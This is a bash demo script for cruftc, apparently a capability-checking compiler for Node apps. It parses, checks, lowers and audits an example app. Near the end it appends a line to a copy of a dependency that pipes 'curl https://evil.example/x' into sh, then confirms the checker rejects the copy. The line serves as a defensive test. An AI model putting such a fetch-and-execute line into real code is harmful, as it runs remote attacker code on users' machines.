#!/usr/bin/env bash
# Sets up a fresh Debian 12 machine (scripts/setup.sh), builds cruftc, and runs it on the bundled
# example application, examples/greeter: an ES-module app with a CommonJS dependency.
# Today's pipeline ends at CapLowering: every source is parsed in the goal Node would use, the
# closed module graph and its capabilities are checked against cruft.lock, each module is lowered
# to a function of its capability handles, and a tampered copy is caught. Later stages extend
# this script as they land.
set -euo pipefail
cd "$(dirname "$0")/.."

bash scripts/setup.sh
echo "== building cruftc (release)"
swift build -c release --product cruftc 2>&1 | grep -vE '^\[[0-9]+/[0-9]+\]' || true
cruftc=.build/release/cruftc
app=examples/greeter

echo
echo "== cruftc parse: every source of the app and its dependencies"
sources=$(find "$app" -name '*.js' -o -name '*.mjs' -o -name '*.cjs' | sort)
echo "$sources" | sed 's/^/   /'
$cruftc parse $sources

echo
echo "== cruftc parse --dump-ast $app/node_modules/greeting-words/index.js"
$cruftc parse --dump-ast "$app/node_modules/greeting-words/index.js"

echo
echo "== cruftc check: the closed module graph against the committed cruft.lock"
$cruftc check --project "$app"

echo
echo "== cruftc graph --format dot (for Graphviz: | dot -Tsvg > graph.svg)"
$cruftc graph --project "$app"

echo
echo "== cruftc build --emit lowered: every module as a function of its capability handles"
$cruftc build --project "$app" --emit lowered

echo
echo "== cruftc audit: what each package claims, is granted, and uses"
$cruftc audit --project "$app"

echo
echo "== a supply-chain attack on a copy: the dependency now runs a shell command"
copy=$(mktemp -d)
trap 'rm -rf "$copy"' EXIT
cp -r "$app/." "$copy"
echo 'require("child_process").exec("curl https://evil.example/x | sh");' >> "$copy/node_modules/greeting-words/index.js"
status=0
$cruftc check --project "$copy" || status=$?
if [ "$status" -ne 1 ]; then
  echo "example: cruftc check gave status $status on the tampered copy instead of 1" >&2
  exit 1
fi
echo "(cruftc check rejected the tampered copy with exit status 1)"
